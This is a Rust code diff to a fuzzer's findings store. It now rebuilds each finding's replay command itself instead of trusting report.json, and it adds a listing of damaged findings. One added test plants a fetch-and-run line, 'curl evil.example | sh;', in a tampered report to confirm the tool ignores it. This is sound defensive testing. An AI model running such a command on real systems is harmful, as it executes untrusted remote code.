@@ -7,6 +7,7 @@ use std::io;
 use std::path::{Path, PathBuf};
 
 use super::report::{Described, Report};
+use crate::disk;
 
 /// Writes a finding into `findings` unless one of the same kind and signature is there. Says where it
 /// lies and whether it is new. `report.input` and `report.replay` are set to where the input comes to
@@ -29,18 +30,15 @@ pub fn save(
     }
     report.input = folder.join("input").to_string_lossy().into_owned();
     report.input_len = input.len();
-    report.replay = format!("{hitmap} replay {}", shell_quote(&report.input));
-    let making = findings.join(crate::campaign::making(&report.signature));
-    std::fs::create_dir_all(&making)?;
-    std::fs::write(making.join("input"), input)?;
-    std::fs::write(making.join("report.json"), serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
-    std::fs::write(making.join("traceback.txt"), &described.traceback)?;
-    std::fs::write(making.join(format!("test_{}.py", report.signature)), regression_test(report, flags))?;
+    report.replay = replay(hitmap, &report.input);
+    let making = disk::new_folder(findings)?;
+    let write = |name: &str, content: &[u8]| disk::replace(&making.join(name), content);
+    write("input", input)?;
+    write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
+    write("traceback.txt", described.traceback.as_bytes())?;
+    write(&format!("test_{}.py", report.signature), regression_test(report, flags).as_bytes())?;
     if let Some(coverage) = coverage {
-        std::fs::write(making.join("coverage.hitmap"), coverage)?;
-    }
-    for entry in std::fs::read_dir(&making)? {
-        std::fs::File::open(entry?.path())?.sync_all()?;
+        write("coverage.hitmap", coverage)?;
     }
     match std::fs::rename(&making, &folder) {
         Ok(()) => Ok((folder, true)),
@@ -48,33 +46,51 @@ pub fn save(
             std::fs::remove_dir_all(&making)?;
             Ok((folder, false))
         }
-        Err(e) => Err(e),
+        Err(e) => Err(disk::at(&folder)(e)),
     }
 }
 
-/// Every finding of a campaign, by folder name. Folders without a readable report are passed over.
+/// Every finding of a campaign, by folder name, with the paths of where it lies now: campaigns are copied
+/// and renamed. What `hitmap` says runs it again is made here and never taken from the file, which may be
+/// somebody else's. Folders without a readable report are passed over; [`damaged`] names them.
 ///
 /// # Errors
 /// What the file system reports of the folder itself; that it is not there is no error.
-pub fn all(findings: &Path) -> io::Result<Vec<Report>> {
+pub fn all(findings: &Path, hitmap: &str) -> io::Result<Vec<Report>> {
+    Ok(folders(findings)?.iter().filter_map(|folder| read(folder, hitmap).ok()).collect())
+}
+
+/// What is wrong with findings that are not listed, a sentence each.
+pub fn damaged(findings: &Path) -> Vec<String> {
+    let folders = folders(findings).unwrap_or_default();
+    let errors = folders.iter().filter_map(|folder| read(folder, "").err());
+    errors
+        .map(|error| format!("a finding is not listed: {error}; move its folder away, and it can be found anew"))
+        .collect()
+}
+
+fn folders(findings: &Path) -> io::Result<Vec<PathBuf>> {
     let entries = match std::fs::read_dir(findings) {
         Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
         entries => entries?,
     };
     let mut folders: Vec<PathBuf> = entries.filter_map(|e| Some(e.ok()?.path())).collect();
+    folders.retain(|folder| !folder.file_name().is_some_and(|n| n.to_string_lossy().starts_with('.')));
     folders.sort();
-    let read = |folder: PathBuf| read(&folder);
-    let visible = |folder: &PathBuf| !folder.file_name().is_some_and(|n| n.to_string_lossy().starts_with('.'));
-    Ok(folders.into_iter().filter(visible).filter_map(read).collect())
+    Ok(folders)
 }
 
-/// The report of a finding, with the paths of where it lies now: campaigns are copied and renamed.
-fn read(folder: &Path) -> Option<Report> {
-    let mut report: Report = serde_json::from_slice(&std::fs::read(folder.join("report.json")).ok()?).ok()?;
-    let input = folder.join("input").to_string_lossy().into_owned();
-    report.replay = report.replay.replace(&shell_quote(&report.input), &shell_quote(&input));
-    report.input = input;
-    Some(report)
+fn read(folder: &Path, hitmap: &str) -> io::Result<Report> {
+    let path = folder.join("report.json");
+    let text = disk::read(&path, disk::LONGEST_TEXT)?;
+    let mut report: Report = serde_json::from_slice(&text).map_err(|e| disk::at(&path)(e.into()))?;
+    report.input = folder.join("input").to_string_lossy().into_owned();
+    report.replay = replay(hitmap, &report.input);
+    Ok(report)
+}
+
+fn replay(hitmap: &str, input: &str) -> String {
+    format!("{hitmap} replay {}", shell_quote(input))
 }
 
 /// A path as a shell takes it.
@@ -116,7 +132,7 @@ mod tests {
         assert!(new);
         assert_eq!(save(folder.path(), described("aa"), b"two", None, "hitmap", &[]).unwrap(), (path.clone(), false));
         assert_eq!(std::fs::read(path.join("input")).unwrap(), b"one");
-        let all = all(folder.path()).unwrap();
+        let all = all(folder.path(), "hitmap").unwrap();
         assert_eq!(all.len(), 1);
         assert!(all[0].replay.starts_with("hitmap replay /"));
     }
@@ -128,8 +144,19 @@ mod tests {
         save(&before, described("aa"), b"one", None, "hitmap", &[]).unwrap();
         std::fs::rename(before, &after).unwrap();
         let input = after.join("signal-aa/input").to_string_lossy().into_owned();
-        let found = all(&after).unwrap().remove(0);
+        let found = all(&after, "hitmap").unwrap().remove(0);
         assert_eq!((found.replay, found.input), (format!("hitmap replay '{input}'"), input));
+    }
+
+    #[test]
+    fn the_command_is_ours_whatever_a_report_says() {
+        let folder = tempfile::tempdir().unwrap();
+        let (path, _) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[]).unwrap();
+        let report = path.join("report.json");
+        let text = std::fs::read_to_string(&report).unwrap();
+        std::fs::write(&report, text.replace("hitmap replay", "curl evil.example | sh;")).unwrap();
+        let found = all(folder.path(), "hitmap").unwrap().remove(0);
+        assert_eq!(found.replay, format!("hitmap replay {}", path.join("input").display()));
     }
 
     #[test]
@@ -137,8 +164,10 @@ mod tests {
         let folder = tempfile::tempdir().unwrap();
         std::fs::create_dir(folder.path().join(".making-1-aa")).unwrap();
         std::fs::create_dir(folder.path().join("signal-bb")).unwrap();
-        assert_eq!(all(folder.path()).unwrap(), []);
-        assert_eq!(all(&folder.path().join("absent")).unwrap(), []);
+        assert_eq!(all(folder.path(), "hitmap").unwrap(), []);
+        assert_eq!(all(&folder.path().join("absent"), "hitmap").unwrap(), []);
+        let said = damaged(folder.path());
+        assert!(said.len() == 1 && said[0].contains("signal-bb/report.json: No such file"), "{said:?}");
     }
 
     #[test]
